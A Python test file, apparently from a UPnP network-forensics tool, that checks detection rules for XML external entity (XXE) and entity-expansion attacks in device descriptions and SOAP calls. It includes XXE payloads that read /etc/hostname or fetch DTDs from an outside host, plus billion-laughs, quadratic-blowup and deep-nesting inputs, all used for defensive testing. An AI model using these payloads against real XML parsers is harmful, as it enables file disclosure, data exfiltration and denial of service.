"""Document types and entities in XML of devices, and XML that is only old or large."""

from __future__ import annotations

from time import process_time

import pytest

from tests.forensics.descriptions import device_xml, root_xml
from tests.forensics.judging import Piece, http, probe
from tests.forensics.packets import UDN
from tests.forensics.rules.forging import CLIENT, DEVICE, OUTSIDE, fetched, of_rule, one
from tests.forensics.rules.traffic import OK, answer, soap
from upnpscapy.forensics.rules.xml_attacks import RULES
from upnpscapy.forensics.rules.xml_entities import depth_of, read_entities

LAMP = root_xml(device_xml(UDN))
FILE = '<!DOCTYPE root [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
WEB = f'<!DOCTYPE root [<!ENTITY x SYSTEM "http://{OUTSIDE}/x">]>'
PARAMETER = f'<!DOCTYPE root [<!ENTITY % dtd SYSTEM "http://{OUTSIDE}/data.dtd"> %dtd;]>'


def with_type(declared: str, encoding: str = "utf-8") -> bytes:
    text = LAMP.decode().replace('<?xml version="1.0"?>', declared)
    return text.encode(encoding)


@pytest.mark.parametrize(
    ("declared", "severity", "outcome"),
    [
        (FILE, "HIGH", "attempted"),
        (WEB, "HIGH", "attempted"),
        (PARAMETER, "HIGH", "attempted"),
        ('<!DOCTYPE root [<!ENTITY % a "b">]>', "HIGH", "attempted"),
        ('<!DOCTYPE root PUBLIC "x" "upnp.dtd">', "LOW", "observed"),
        ("<!DOCTYPE root>", "LOW", "observed"),
        ('<!DOCTYPE root [<!ENTITY nbsp "&#160;">]>', "LOW", "observed"),
        ("<!-- <!ELEMENT -->", None, None),
        ("", None, None),
    ],
)
def test_document_types(declared: str, severity: str | None, outcome: str | None) -> None:
    found = of_rule("xxe", [fetched(with_type(declared))], RULES)
    assert [(one.severity, one.outcome) for one in found] == (
        [(severity, outcome)] if severity else []
    )
    assert not found or found[0].subject == DEVICE


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_encodings_hide_nothing(encoding: str) -> None:
    pieces = [fetched(), fetched(with_type(FILE, encoding), target="/other.xml", sport=40001, at=2)]
    assert one("xxe", pieces, RULES).severity == "HIGH"


def test_chunks_hide_nothing() -> None:
    body = with_type(FILE)
    at = body.index(b"SYSTEM") + 3
    chunks = b"%x\r\n%b\r\n%x\r\n%b\r\n0\r\n\r\n" % (at, body[:at], len(body) - at, body[at:])
    sent = fetched(chunks, extra="Transfer-Encoding: chunked\r\n")
    assert one("xxe", [sent], RULES).severity == "HIGH"


def test_who_fetches_what_the_entity_names() -> None:
    pieces: list[Piece] = [fetched(with_type(WEB)), probe(CLIENT, OUTSIDE, 80, at=9)]
    found = one("xxe", pieces, RULES)
    assert (found.severity, found.outcome, found.missing) == ("CRITICAL", "effect", [])
    assert one("xxe", pieces[:1], RULES).missing == [
        f"no connection to {OUTSIDE}:80 in the capture"
    ]


def test_a_dtd_of_the_same_server_is_told_by_the_request() -> None:
    declared = f'<!DOCTYPE root [<!ENTITY % dtd SYSTEM "http://{DEVICE}:5000/ssdp/data.dtd">]>'
    first = fetched(with_type(declared))
    assert one("xxe", [first, fetched(at=5, sport=40001)], RULES).severity == "HIGH"
    second = fetched(b"<!ENTITY a 'b'>", target="/ssdp/data.dtd", at=5, sport=40001)
    found = [item for item in of_rule("xxe", [first, second], RULES) if item.outcome == "effect"]
    assert [item.severity for item in found] == ["CRITICAL"]


def test_a_call_with_entities() -> None:
    call = soap("GetStatusInfo")
    head, _, body = call.partition(b"\r\n\r\n")
    bad = body.replace(b"<s:Envelope", FILE.encode() + b"<s:Envelope", 1)
    assert bad != body
    sent = head.replace(b"%d" % len(body), b"%d" % len(bad)) + b"\r\n\r\n" + bad
    found = one("xxe", [http(sent, answer("GetStatusInfo"))], RULES)
    assert (found.severity, found.subject) == ("HIGH", CLIENT)
    assert of_rule("xxe", [http(call, OK)], RULES) == []


def test_a_web_page_in_place_of_a_description_is_none() -> None:
    page = b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd"><html/>'
    assert of_rule("xxe", [fetched(), fetched(page, at=2, sport=40001)], RULES) == []


def test_a_picture_of_the_same_server_may_have_a_document_type() -> None:
    declared = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG" "svg.dtd" [<!ENTITY ns "http://a/">]><svg/>'
    picture = fetched(declared.encode(), target="/logo.svg", at=2, sport=40001)
    assert of_rule("xxe", [fetched(), picture], RULES) == []
    hostile = declared.replace('ns "http', 'ns SYSTEM "http').encode()
    picture = fetched(hostile, target="/logo.svg", at=2, sport=40001)
    assert one("xxe", [fetched(), picture], RULES).severity == "HIGH"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
QUADRATIC = '<!ENTITY a "' + "x" * 10_001 + '">'


def used(times: int) -> str:
    return with_type(f"<!DOCTYPE root [{QUADRATIC}]>").decode().replace("Lamp", "&a;" * times, 1)


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (with_type(f"<!DOCTYPE root [{LAUGHS}]>"), "levels"),
        (with_type('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&c;"><!ENTITY c "x">]>'), "3 levels"),
        (with_type('<!DOCTYPE r [<!ENTITY a "&a;">]>'), "levels"),
        (with_type(f'<!DOCTYPE r [<!ENTITY b "x"><!ENTITY a "{"&b;" * 10}">]>'), "10 references"),
        (used(120).encode(), "characters"),
        (used(50).encode(), None),
        (with_type('<!DOCTYPE r [<!ENTITY b "x"><!ENTITY a "&b;&b;">]>'), None),
        (LAMP.replace(b"<root", b"<root><device>" + b"<a>" * 300, 1), "inside each other"),
        (LAMP.replace(b"</root>", b"<a>" * 100 + b"</a>" * 100 + b"</root>"), None),
        (LAMP.replace(b"</root>", b"<a></a>" * 400 + b"</root>"), None),
    ],
)
def test_what_grows(body: bytes, words: str | None) -> None:
    pieces = [fetched(), fetched(body, target="/other.xml", at=2, sport=40001)]
    found = of_rule("entity-expansion", pieces, RULES)
    assert [(one.severity, one.outcome) for one in found] == [("HIGH", "attempted")] * bool(words)
    assert not found or str(words) in found[0].note


def test_sizes_are_computed() -> None:
    found = read_entities(f"<!DOCTYPE r [{LAUGHS}]><r>&l9;</r>")
    assert (found.levels, found.most_references, found.expanded >= 2 * 10**9) == (10, 10, True)
    assert read_entities('<!ENTITY a "xyz"><r>&a;&a;&b;</r>').expanded == 6


@pytest.mark.parametrize(
    "text",
    [
        '<!ENTITY a "' * 10_000,
        "<!ENTITY a SYSTEM '" * 10_000,
        "<!DOCTYPE " + " " * 40_000,
        "<!DOCTYPE r [" + "".join(f'<!ENTITY e{n} "&e{n + 1};&e{n - 1};">' for n in range(3000)),
        "<a " * 20_000,
        "<a/" * 20_000,
        "&a" * 40_000 + "<!ENTITY",
    ],
)
def test_hostile_text_costs_little(text: str) -> None:
    start = process_time()
    read_entities(text)
    depth_of(text, 257)
    body = LAMP.replace(b"</root>", text.encode() + b"</root>")
    for rule in RULES:
        of_rule(rule.id, [fetched(body)], RULES)
    assert process_time() - start < 4
